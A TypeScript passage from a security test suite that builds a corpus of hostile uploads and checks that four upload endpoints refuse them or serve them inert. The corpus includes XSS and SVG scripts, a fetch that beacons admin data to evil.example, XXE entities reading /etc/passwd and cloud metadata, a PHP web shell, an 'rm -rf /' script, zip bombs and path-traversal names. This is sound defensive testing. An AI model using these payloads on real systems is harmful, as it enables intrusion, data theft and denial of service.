/**
 * Hostile files: a corpus built here (SVG with scripts, handlers, entities and external references;
 * HTML/JS/executables renamed as images; polyglots; truncated images; pixel floods; zip bombs as
 * .docx; oversized files; path-traversal and control-character file names), each sent to every
 * upload: /api/upload/avatar, /api/upload/logo (logo and ?purpose=example) and /api/upload/document.
 *
 * Whatever is accepted must be stored safely (a generated name, never the client's; an SVG only as
 * rebuilt by the sanitiser: no script, no on* handler, no external reference, no entity) and served
 * inert (nosniff + a sandbox CSP; an image type from our own extension; documents only privately
 * and as attachments). Nothing answers 5xx, every refusal is JSON {message}.
 *
 * Pixel floods (huge declared dimensions) are accepted but inert: the server never decodes pixels,
 * so nothing is allocated by the declared size; see docs/reliability.md.
 */
import { existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Agent, createTestApp, type TestApp } from '../support/app';
import { kinds, signedIn } from '../support/factories';

// ---------------------------------------------------------------------------------------------
// building blocks

const PNG_1x1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);
const GIF_1x1 = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
const JPEG_HEAD = Buffer.from([
  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00,
  0x00,
]);
const JPEG_EOI = Buffer.from([0xff, 0xd9]);
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const JS = Buffer.from(
  'fetch("/api/admin/payments").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))',
);

const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};
const pngChunk = (type: string, data: Buffer) => {
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([u32be(data.length), td, u32be(crc32(td))]);
};
const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
/** A PNG that declares width × height; `idat` is its (possibly tiny) compressed data. */
function png(width: number, height: number, extra: Buffer[] = [], idat = deflateRawSync(Buffer.alloc(2))) {
  const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 0, 0, 0, 0])]);
  return Buffer.concat([
    PNG_SIG,
    pngChunk('IHDR', ihdr),
    ...extra,
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}
function gif(width: number, height: number, tail = Buffer.from([0x3b])) {
  const b = Buffer.alloc(13);
  b.write('GIF89a', 0, 'latin1');
  b.writeUInt16LE(width, 6);
  b.writeUInt16LE(height, 8);
  return Buffer.concat([b, tail]);
}
function jpeg(width: number, height: number, extra = Buffer.alloc(0)) {
  const sof = Buffer.from([
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 0xff,
    width >> 8,
    width & 0xff,
    0x03,
    1,
    0x22,
    0,
    2,
    0x11,
    1,
    3,
    0x11,
    1,
  ]);
  return Buffer.concat([JPEG_HEAD, extra, sof, JPEG_EOI]);
}
function webp(payload: Buffer) {
  const head = Buffer.alloc(12);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(payload.length + 4, 4);
  head.write('WEBP', 8, 'latin1');
  return Buffer.concat([head, payload]);
}
function webpVp8x(width: number, height: number) {
  const chunk = Buffer.alloc(18);
  chunk.write('VP8X', 0, 'latin1');
  chunk.writeUInt32LE(10, 4);
  chunk.writeUIntLE(width - 1, 12, 3);
  chunk.writeUIntLE(height - 1, 15, 3);
  return webp(chunk);
}

interface ZipEntry {
  name: string;
  data: Buffer;
  /** lie about the unpacked size in the central directory */
  declaredSize?: number;
  deflate?: boolean;
}
/** A zip written by hand, so its directory can lie. */
function zip(entries: ZipEntry[], opts: { entryCountOverride?: number } = {}) {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const packed = e.deflate ? deflateRawSync(e.data) : e.data;
    const size = e.declaredSize ?? e.data.length;
    const crc = crc32(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, packed);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.deflate ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  const count = opts.entryCountOverride ?? entries.length;
  eocd.writeUInt16LE(count, 8);
  eocd.writeUInt16LE(count, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}
const CONTENT_TYPES_XML = {
  name: '[Content_Types].xml',
  data: Buffer.from(
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  ),
};
const docx = (extra: ZipEntry[] = [], doc: Partial<ZipEntry> = {}) =>
  zip([CONTENT_TYPES_XML, { name: 'word/document.xml', data: Buffer.from('<w:document/>'), ...doc }, ...extra]);

const svg = (body: string, head = '') =>
  Buffer.from(
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">${body}</svg>`,
  );

// ---------------------------------------------------------------------------------------------
// the corpus

interface Hostile {
  label: string;
  bytes: Buffer;
  filename: string;
  contentType: string;
}
const corpus: Hostile[] = [];
const add = (label: string, bytes: Buffer, filename = 'file.png', contentType = 'image/png') =>
  corpus.push({ label, bytes, filename, contentType });

// SVG: scripts, handlers, external references, entities, foreign content
const SVGS: [string, Buffer][] = [
  ['script element', svg('<script>alert(1)</script><rect width="5" height="5"/>')],
  ['script with CDATA', svg('<script type="text/ecmascript"><![CDATA[alert(1)]]></script>')],
  ['script with external src', svg('<script xlink:href="https://evil.example/x.js"/>')],
  ['uppercase SCRIPT', svg('<SCRIPT>alert(1)</SCRIPT>')],
  ['xhtml-namespaced script', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')],
  [
    'onload on the root',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="5" height="5"/></svg>'),
  ],
  ['onload with odd whitespace', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload\n=\t"alert(1)"/>')],
  ['onclick on a child', svg('<rect width="5" height="5" onclick="alert(1)" onmouseover="alert(2)"/>')],
  ['javascript: link', svg('<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>')],
  ['javascript: href (SVG2)', svg('<a href="javascript:alert(1)"><text>x</text></a>')],
  ['entity-encoded javascript:', svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>')],
  ['external image', svg('<image href="https://evil.example/track.png" width="5" height="5"/>')],
  [
    'data: image',
    svg('<image xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="5" height="5"/>'),
  ],
  ['external use', svg('<use href="https://evil.example/sprite.svg#icon"/>')],
  ['protocol-relative use', svg('<use xlink:href="//evil.example/sprite.svg#icon"/>')],
  [
    'external gradient',
    svg('<linearGradient id="g" href="https://evil.example/g.svg#x"/><rect fill="url(#g)" width="5" height="5"/>'),
  ],
  [
    'foreignObject with iframe',
    svg(
      '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
    ),
  ],
  [
    'foreignObject with html script',
    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'),
  ],
  [
    'XXE file entity',
    svg('<text>&xxe;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
  ],
  [
    'XXE http entity',
    svg('<text>&xxe;</text>', '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>'),
  ],
  [
    'billion laughs',
    svg(
      '<text>&lol6;</text>',
      '<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>',
    ),
  ],
  ['style @import', svg('<style>@import url(https://evil.example/x.css);</style><rect width="5" height="5"/>')],
  [
    'style url() to a tracker',
    svg('<style>rect{fill:url(https://evil.example/p.png)}</style><rect width="5" height="5"/>'),
  ],
  ['style attribute url()', svg('<rect width="5" height="5" style="background:url(https://evil.example/p.png)"/>')],
  ['set to an event handler', svg('<set attributeName="onmouseover" to="alert(1)"/>')],
  [
    'animate href to javascript:',
    svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
  ],
  [
    'xml-stylesheet instruction',
    svg('<rect width="5" height="5"/>', '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>'),
  ],
  ['BOM then script', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), svg('<script>alert(1)</script>')])],
  ['comment hiding a script', svg('<!-- --><script>alert(1)</script><!-- -->')],
  ['not well-formed (HTML-style)', Buffer.from('<svg/onload=alert(1)>')],
  ['truncated SVG', svg('<rect width="5" height="5"/>').subarray(0, 60)],
  ['iframe element', svg('<iframe src="https://evil.example"></iframe>')],
  ['embed and object', svg('<embed src="https://evil.example/x.swf"/><object data="https://evil.example/x"/>')],
  ['base element', svg('<base href="https://evil.example/"/><use href="#a"/>')],
  ['gzipped (svgz) with script', gzipSync(svg('<script>alert(1)</script>'))],
];
for (const [label, bytes] of SVGS) add(`SVG: ${label}`, bytes, 'logo.svg', 'image/svg+xml');

// active content renamed as images
add('HTML as .png', HTML, 'photo.png', 'image/png');
add('HTML as .jpg', HTML, 'photo.jpg', 'image/jpeg');
add('HTML as .gif', HTML, 'photo.gif', 'image/gif');
add('HTML as .webp', HTML, 'photo.webp', 'image/webp');
add('HTML as .svg', HTML, 'logo.svg', 'image/svg+xml');
add('JavaScript as .png', JS, 'x.png', 'image/png');
add('JavaScript as .js', JS, 'x.js', 'application/javascript');
add('PHP as .jpg', Buffer.from('<?php system($_GET["c"]); ?>'), 'shell.php.jpg', 'image/jpeg');
add(
  'Windows executable as .png',
  Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]),
  'setup.png',
  'image/png',
);
add(
  'ELF executable as .gif',
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)]),
  'a.gif',
  'image/gif',
);
add('shell script as .png', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'run.png', 'image/png');
add(
  'XHTML as .svg',
  Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
  'x.svg',
  'image/svg+xml',
);
add('HTML sent as text/html', HTML, 'page.html', 'text/html');
add(
  'XML with an entity as .png',
  Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  'x.png',
  'image/png',
);
add('PDF as .png', Buffer.from('%PDF-1.4\n%%EOF\n'), 'x.png', 'image/png');
add(
  'MP4 as .jpg',
  Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42'), Buffer.alloc(100)]),
  'x.jpg',
  'image/jpeg',
);

// polyglots: a real image header with active content inside or after it
add(
  'GIF+JS polyglot',
  Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(7), Buffer.from('*/=alert(1);//'), Buffer.from([0x3b])]),
  'x.gif',
  'image/gif',
);
add(
  'GIF with script in a comment extension',
  gif(
    1,
    1,
    Buffer.concat([
      Buffer.from([0x21, 0xfe, 30]),
      Buffer.from('<script>alert(1)</script>    '),
      Buffer.from([0, 0x3b]),
    ]),
  ),
  'x.gif',
  'image/gif',
);
add('PNG with HTML after IEND', Buffer.concat([PNG_1x1, HTML]), 'x.png', 'image/png');
add(
  'PNG with HTML in a tEXt chunk',
  png(1, 1, [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), HTML]))]),
  'x.png',
  'image/png',
);
add('PNG named .html', PNG_1x1, 'x.html', 'text/html');
add(
  'JPEG with HTML in a COM segment',
  jpeg(1, 1, Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, HTML.length + 2]), HTML])),
  'x.jpg',
  'image/jpeg',
);
add('JPEG with HTML after EOI', Buffer.concat([jpeg(1, 1), HTML]), 'x.jpg', 'image/jpeg');
add(
  'WEBP with HTML payload',
  webp(Buffer.concat([Buffer.from('VP8 '), u32be(HTML.length), HTML])),
  'x.webp',
  'image/webp',
);
add(
  'GIF header then an SVG with script',
  Buffer.concat([Buffer.from('GIF89a'), svg('<script>alert(1)</script>')]),
  'x.svg',
  'image/svg+xml',
);
add('PNG then PDF', Buffer.concat([PNG_1x1, Buffer.from('%PDF-1.4\n%%EOF')]), 'x.pdf', 'application/pdf');
add(
  'PDF with a JavaScript action',
  Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
  ),
  'draft.pdf',
  'application/pdf',
);
add('PDF then HTML', Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]), 'draft.pdf', 'application/pdf');
add(
  'docx with an HTML part',
  docx([{ name: 'word/evil.html', data: HTML }]),
  'draft.docx',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
);
add(
  'Word 97 header then HTML',
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.from('WordDocument', 'utf16le'),
    HTML,
  ]),
  'draft.doc',
  'application/msword',
);
add(
  'OLE2 container that is not Word',
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.from('Workbook', 'utf16le'),
    Buffer.alloc(100),
  ]),
  'book.doc',
  'application/msword',
);

// only the first bytes of an accepted type's signature (a check shortened to them lets these in)
add('GIF8 then HTML (no GIF version)', Buffer.concat([Buffer.from('GIF8'), HTML]), 'x.gif', 'image/gif');
add(
  'WAV (RIFF without WEBP) as .webp',
  Buffer.concat([Buffer.from('RIFF'), Buffer.from([36, 0, 0, 0]), Buffer.from('WAVEfmt '), Buffer.alloc(24)]),
  'x.webp',
  'image/webp',
);
add('PostScript as .pdf', Buffer.from('%!PS-Adobe-3.0\n%%EOF\n'), 'draft.pdf', 'application/pdf');

// truncated images
add('PNG signature only', PNG_SIG, 'x.png');
add('PNG cut inside IHDR', PNG_1x1.subarray(0, 20), 'x.png');
add('PNG cut before IEND', PNG_1x1.subarray(0, PNG_1x1.length - 12), 'x.png');
add('PNG signature minus a byte', PNG_SIG.subarray(0, 7), 'x.png');
add('GIF header only', Buffer.from('GIF89a'), 'x.gif', 'image/gif');
add('GIF cut mid-frame', GIF_1x1.subarray(0, 20), 'x.gif', 'image/gif');
add('JPEG SOI only', Buffer.from([0xff, 0xd8, 0xff]), 'x.jpg', 'image/jpeg');
add('JPEG without EOI', JPEG_HEAD, 'x.jpg', 'image/jpeg');
add('WEBP RIFF header only', webp(Buffer.alloc(0)), 'x.webp', 'image/webp');
add('one byte', Buffer.from([0x89]), 'x.png');
add('PDF header only', Buffer.from('%PDF-'), 'draft.pdf', 'application/pdf');
add('zip signature only as .docx', Buffer.from([0x50, 0x4b, 0x03, 0x04]), 'draft.docx', 'application/octet-stream');

// pixel floods: huge declared dimensions in a tiny file
add('PNG 65535×65535', png(65535, 65535), 'flood.png');
add('PNG 2^31-1 × 2^31-1', png(0x7fffffff, 0x7fffffff), 'flood.png');
add('PNG 0×0', png(0, 0), 'zero.png');
add(
  'PNG 1×1e6 with 1 MB of zeros deflated',
  png(1, 1_000_000, [], deflateRawSync(Buffer.alloc(1_000_000))),
  'flood.png',
);
add('GIF 65535×65535', gif(65535, 65535), 'flood.gif', 'image/gif');
add('JPEG 65500×65500', jpeg(65500, 65500), 'flood.jpg', 'image/jpeg');
add('WEBP 16384×16384', webpVp8x(16384, 16384), 'flood.webp', 'image/webp');

// zip bombs and malformed zips as .docx
const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
add('docx: a part that claims 4 GB unpacked', docx([], { declaredSize: 0xfffffffe }), 'bomb.docx', DOCX_TYPE);
const TEN_MB_ZEROS = Buffer.alloc(10 * 1024 * 1024);
add(
  'docx: 110 MB of zeros deflated into 11 parts (a real bomb)',
  docx(Array.from({ length: 11 }, (_, i) => ({ name: `word/media/zero${i}.bin`, data: TEN_MB_ZEROS, deflate: true }))),
  'bomb.docx',
  DOCX_TYPE,
);
add(
  'docx: 2,001 parts',
  docx(Array.from({ length: 2000 }, (_, i) => ({ name: `p/${i}`, data: Buffer.alloc(0) }))),
  'many.docx',
  DOCX_TYPE,
);
const zip64 = docx();
// Zip64 marker: the entry count says 0xffff
zip64.writeUInt16LE(0xffff, zip64.length - 12);
zip64.writeUInt16LE(0xffff, zip64.length - 14);
add('docx: entry count says 65535 (Zip64)', zip64, 'zip64.docx', DOCX_TYPE);
add(
  'docx: directory claims more entries than it has',
  zip([CONTENT_TYPES_XML, { name: 'word/document.xml', data: Buffer.from('<w:document/>') }], {
    entryCountOverride: 50,
  }),
  'lie.docx',
  DOCX_TYPE,
);
add('docx: without word/document.xml', zip([CONTENT_TYPES_XML]), 'notword.docx', DOCX_TYPE);
add(
  'docx: path-traversal part names',
  docx([
    { name: '../../../../tmp/evil.sh', data: Buffer.from('#!/bin/sh') },
    { name: '/etc/cron.d/x', data: Buffer.from('x') },
  ]),
  'slip.docx',
  DOCX_TYPE,
);
add('plain zip as .docx', zip([{ name: 'readme.txt', data: Buffer.from('hi') }]), 'x.docx', DOCX_TYPE);
add('docx as .png', docx(), 'x.png', 'image/png');

// oversized
add('PNG of 5 MB + 1 byte', Buffer.concat([PNG_1x1, Buffer.alloc(5 * 1024 * 1024 + 1 - PNG_1x1.length)]), 'big.png');
add(
  'PDF of 25 MB + 1 byte',
  Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(25 * 1024 * 1024 + 1 - 9)]),
  'big.pdf',
  'application/pdf',
);
add(
  'SVG of 5 MB + 1 byte',
  Buffer.concat([
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">'),
    Buffer.alloc(5 * 1024 * 1024 + 1 - 46, 0x20),
    Buffer.from('</svg>'),
  ]),
  'big.svg',
  'image/svg+xml',
);
add('empty file', Buffer.alloc(0), 'empty.png');

// hostile names on harmless content (the name must never reach the disk or a header)
const NAMES = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  '../uploads/../../evil.png',
  '%2e%2e%2f%2e%2e%2fevil.png',
  'a\u0000.png.html',
  'x\u0001\u0002\u001b[31m.png',
  '\u202egnp.exe',
  'CON.png',
  '.htaccess',
  'index.html',
  'x.png.html',
  'x.svg',
  'x'.repeat(5000) + '.png',
  "x\";filename*=UTF-8''evil.html",
  '😀.png',
  '',
  ' ',
  '.',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.png',
];
for (const name of NAMES) add(`name ${JSON.stringify(name.slice(0, 40))}`, PNG_1x1, name);
for (const name of NAMES.slice(0, 6))
  add(
    `document name ${JSON.stringify(name.slice(0, 40))}`,
    Buffer.from('%PDF-1.4\n%%EOF\n'),
    name.replace(/png/g, 'pdf'),
    'application/pdf',
  );

// ---------------------------------------------------------------------------------------------

/**
 * Files no image route may take (they are not images, or only start like one) and files the draft
 * route may not take (not a Word or PDF document, or a zip that would unpack to too much): refused,
 * not merely stored inert. A weakened magic-byte or .docx check fails here.
 */
const NOT_AN_IMAGE = new Set([
  'HTML as .png',
  'HTML as .jpg',
  'HTML as .gif',
  'HTML as .webp',
  'HTML as .svg',
  'JavaScript as .png',
  'PHP as .jpg',
  'Windows executable as .png',
  'ELF executable as .gif',
  'XHTML as .svg',
  'PDF as .png',
  'MP4 as .jpg',
  'docx as .png',
  'OLE2 container that is not Word',
  'PNG signature minus a byte',
  'one byte',
  'GIF8 then HTML (no GIF version)',
  'WAV (RIFF without WEBP) as .webp',
]);
const NOT_A_DOCUMENT = new Set([
  'HTML as .png',
  'JavaScript as .js',
  'Windows executable as .png',
  'PNG then PDF',
  'PNG named .html',
  'PostScript as .pdf',
  'OLE2 container that is not Word',
  'zip signature only as .docx',
  'docx: a part that claims 4 GB unpacked',
  'docx: 110 MB of zeros deflated into 11 parts (a real bomb)',
  'docx: 2,001 parts',
  'docx: entry count says 65535 (Zip64)',
  'docx: directory claims more entries than it has',
  'docx: without word/document.xml',
  'plain zip as .docx',
]);

interface Target {
  label: string;
  url: string;
  field: string;
}
const TARGETS: Target[] = [
  { label: 'avatar', url: '/api/upload/avatar', field: 'avatar' },
  { label: 'logo', url: '/api/upload/logo', field: 'logo' },
  { label: 'example image', url: '/api/upload/logo?purpose=example', field: 'logo' },
  { label: 'draft document', url: '/api/upload/document', field: 'file' },
];

const GENERATED = /^[0-9a-f]{32}\.(png|jpg|gif|webp|svg|pdf|doc|docx)$/;

let t: TestApp;
let admin: Agent;
let brand: Agent;
const results: {
  accepted: number;
  refused: number;
  byStatus: Record<number, number>;
  stored: string[];
  svgRebuilt: number;
} = { accepted: 0, refused: 0, byStatus: {}, stored: [], svgRebuilt: 0 };

beforeAll(async () => {
  t = await createTestApp();
  [{ agent: admin }, { agent: brand }] = await Promise.all([
    signedIn(t.app, t.db, kinds.admin),
    signedIn(t.app, t.db, kinds.approvedBrand),
  ]);
});
afterAll(async () => {
  process.stdout.write(
    `hostile files: ${corpus.length} files × ${TARGETS.length} uploads = ${corpus.length * TARGETS.length} requests; ${results.accepted} accepted (stored inert), ${results.refused} refused; ${results.svgRebuilt} hostile SVGs rebuilt clean; by status ${JSON.stringify(results.byStatus)}\n`,
  );
  await t?.close();
});

/** What a stored SVG may never contain once rebuilt. */
function unsafeSvg(text: string): string | null {
  const checks: [RegExp, string][] = [
    [/<\s*script/i, 'script element'],
    [/\son[a-z]+\s*=/i, 'event handler'],
    [/javascript:/i, 'javascript: URL'],
    [/<!ENTITY|<!DOCTYPE/i, 'DTD or entity'],
    [/foreignObject|<iframe|<embed|<object|<base/i, 'foreign content'],
    [/(href|src)\s*=\s*["'](?!#)/i, 'reference outside the document'],
    [/url\(\s*["']?(?!#)/i, 'CSS url() outside the document'],
    [/@import/i, 'CSS import'],
    [/<\?xml-stylesheet/i, 'stylesheet instruction'],
    [/https?:\/\/(?!www\.w3\.org\/)/i, 'external URL'],
  ];
  for (const [re, what] of checks) if (re.test(text)) return what;
  return null;
}

describe('hostile files', () => {
  it(`the corpus holds at least 100 files (${corpus.length})`, () => {
    expect(corpus.length).toBeGreaterThanOrEqual(100);
    // the must-refuse lists name files of the corpus (a renamed label cannot drop out silently)
    const labels = new Set(corpus.map((f) => f.label));
    for (const label of [...NOT_AN_IMAGE, ...NOT_A_DOCUMENT]) expect(labels.has(label), label).toBe(true);
  });

  for (const target of TARGETS) {
    it(`${target.label}: every hostile file is refused or stored and served inert`, async () => {
      for (const file of corpus) {
        const who = target.label === 'avatar' ? brand : admin;
        const res = await who.upload(target.url, target.field, file.bytes, file.filename, file.contentType);
        const what = `${target.label} ← ${file.label}: ${res.status} ${res.text.slice(0, 200)}`;
        results.byStatus[res.status] = (results.byStatus[res.status] ?? 0) + 1;
        expect(res.status, what).toBeLessThan(500);
        const mustRefuse = target.label === 'draft document' ? NOT_A_DOCUMENT : NOT_AN_IMAGE;
        if (mustRefuse.has(file.label)) expect(res.status, `${what}: must be refused`).toBeGreaterThanOrEqual(400);
        if (res.status >= 400) {
          results.refused++;
          expect([400, 413, 415], what).toContain(res.status);
          expect(typeof res.body?.message, what).toBe('string');
          continue;
        }
        results.accepted++;
        expect(res.status, what).toBe(200);
        const url: string = res.body.url ?? res.body.path;
        const name = url.split('/').pop()!;
        // a name of ours, never the client's
        expect(name, what).toMatch(GENERATED);
        expect(url, what).toBe(target.label === 'draft document' ? `/api/files/${name}` : `/uploads/${name}`);
        results.stored.push(name);
        const onDisk = readFileSync(path.join(t.uploadsDir, name));

        if (target.label === 'draft document') {
          expect(name, what).toMatch(/\.(pdf|doc|docx)$/);
          // drafts are never public, and the owner's copy is a download
          expect((await brand.get(`/uploads/${name}`)).status, what).toBe(404);
          const served = await admin.get(url);
          expect(served.status, what).toBe(200);
          expect(served.headers['content-disposition'], what).toMatch(/^attachment;/);
          expect(served.headers['x-content-type-options'], what).toBe('nosniff');
          expect(served.headers['content-security-policy'], what).toMatch(/sandbox/);
          continue;
        }

        expect(name, what).toMatch(/\.(png|jpg|gif|webp|svg)$/);
        if (name.endsWith('.svg')) {
          results.svgRebuilt++;
          expect(target.label, `${what}: SVG is only for logos`).toBe('logo');
          expect(
            unsafeSvg(onDisk.toString('utf8')),
            `${what}\nstored: ${onDisk.toString('utf8').slice(0, 500)}`,
          ).toBeNull();
        } else {
          // raster images are kept byte for byte: served inert, never decoded on the server
          expect(onDisk.equals(file.bytes), what).toBe(true);
        }
        const served = await t.app.inject({ method: 'GET', url, headers: { host: 'localhost:80' } });
        expect(served.statusCode, what).toBe(200);
        expect(served.headers['content-type'], what).toMatch(/^image\/(png|jpeg|gif|webp|svg\+xml)$/);
        expect(served.headers['x-content-type-options'], what).toBe('nosniff');
        expect(served.headers['content-security-policy'], what).toMatch(/(^|;\s*)sandbox(;|$)/);
        expect(served.headers['content-security-policy'], what).toMatch(/default-src 'none'/);
        expect(served.headers['content-security-policy'], what).not.toMatch(/script-src/);
      }
    }, 240_000);
  }

  it('the SVG checks were exercised: hostile SVG logos were rebuilt and stored, not only refused', () => {
    expect(results.svgRebuilt).toBeGreaterThanOrEqual(10);
  });

  it('nothing was written outside the uploads directory, and only generated names inside it', () => {
    const root = path.dirname(t.uploadsDir);
    const walk = (dir: string): string[] =>
      readdirSync(dir).flatMap((n) =>
        statSync(path.join(dir, n)).isDirectory() ? walk(path.join(dir, n)).map((m) => `${n}/${m}`) : [n],
      );
    const everything = walk(root);
    for (const f of everything) {
      if (f.startsWith('mail/')) continue;
      expect(f, 'a file outside uploads/ or with a name not of ours').toMatch(
        /^uploads\/[0-9a-f]{32}\.(png|jpg|gif|webp|svg|pdf|doc|docx)$/,
      );
    }
    expect(everything.filter((f) => f.startsWith('uploads/')).length).toBe(results.stored.length);
    for (const target of ['/tmp/evil.sh', path.join(root, 'evil.png'), path.join(root, '..', 'evil.png')])
      expect(existsSync(target), target).toBe(false);
  });
});

/**
 * The name and the bytes disagree, both ways, on every upload route: a type the route takes under
 * the name of another one, and a type the route does not take under a name it does. The bytes
 * decide: what the route does not take is refused (415) whatever it is called, and what it takes is
 * stored and served under the extension and type of its bytes. (The logo and example routes also
 * refuse a file named as another image type, see logo-upload.ts; a name that is no image type at
 * all is simply ignored there.)
 */
describe('the name and the bytes disagree: the bytes decide', () => {
  const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
  const JPEG = jpeg(1, 1);
  const DOC = Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(56),
    Buffer.from('WordDocument', 'utf16le'),
    Buffer.alloc(64),
  ]);
  const SVG = svg('<rect width="5" height="5" fill="#123456"/>');
  const DOC_MIME = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

  interface Case {
    target: Target['label'];
    what: string;
    bytes: Buffer;
    filename: string;
    contentType: string;
    /** the extension and Content-Type it is stored and served as; undefined: refused with 415 */
    stored?: { ext: string; type: string };
  }
  const CASES: Case[] = [
    {
      target: 'avatar',
      what: 'a genuine PDF named photo.png',
      bytes: PDF,
      filename: 'photo.png',
      contentType: 'image/png',
    },
    {
      target: 'avatar',
      what: 'a genuine .docx named me.jpg',
      bytes: docx(),
      filename: 'me.jpg',
      contentType: 'image/jpeg',
    },
    {
      target: 'avatar',
      what: 'a genuine JPEG named me.gif',
      bytes: JPEG,
      filename: 'me.gif',
      contentType: 'image/gif',
      stored: { ext: 'jpg', type: 'image/jpeg' },
    },
    {
